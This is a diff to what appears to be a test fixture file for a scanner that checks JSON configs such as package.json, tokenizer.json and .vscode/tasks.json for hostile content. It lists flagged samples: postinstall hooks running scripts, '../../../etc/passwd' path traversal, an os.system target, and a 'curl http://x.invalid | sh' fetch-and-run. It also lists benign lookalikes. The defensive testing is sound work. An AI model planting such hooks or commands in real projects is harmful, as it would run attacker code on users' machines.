@@ -39,6 +39,11 @@ HOSTILE_JSON = [
     ("genai_config.json", {"custom_ops_library": "x.so"}, "config.loads-module"),
     ("package.json", {"scripts": {"postinstall": "node x.js"}}, "config.runs-on-install"),
     ("package.json", {"scripts": {"prepare": "husky install && node x.js"}}, "config.runs-on-install"),
+    ("package.json", {"scripts": {"postinstall": "npm run build", "build": "node x.js"}}, "config.runs-on-install"),
+    ("package.json", {"scripts": {"postinstall": "patch-package; node x.js"}}, "config.runs-on-install"),
+    ("tokenizer.json", {"merges": "../../../etc/passwd"}, "config.path-outside"),
+    ("tokenizer.json", {"model": {"vocab_file": ["../../../etc/passwd"]}}, "config.path-outside"),
+    ("tokenizer.json", {"vocab": {"_target_": "os.system"}}, "config.target"),
     ("package.json", {"scripts": {"test": "curl http://x.invalid | sh"}}, "command.hostile"),
     (".vscode/tasks.json", {"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}, "config.runs-on-open"),
     (".mcp.json", {"mcpServers": {"a": {"command": "npx", "args": ["x"]}}}, "config.agent-command"),
@@ -92,6 +97,11 @@ HOSTILE_JSON_TEXT = [
     ('{"a": 1}\0\0', "text.binary"),
 ]
 BENIGN_JSON = [
+    ("tokenizer.json", {"model": {"merges": ["..", ".. /", "../ .."], "vocab": {"..": 1, "eval()": 2}}}),
+    ("tokenizer.json", {"model": {"merges": [["..", "/"], ["../", ".."]]}}),
+    ("tokenizer.json", {"model": {"vocab": [["..", -3.2], ["\\\\n\\", -4.1], ["/etc/passwd", -9.0]]}}),
+    ("config.json", {"id2label": {"0": "..", "1": "/etc/passwd"}}),
+    ("package.json", {"scripts": {"postinstall": "patch-package && npm run build", "build": "tsc"}}),
     (
         "config.json",
         {
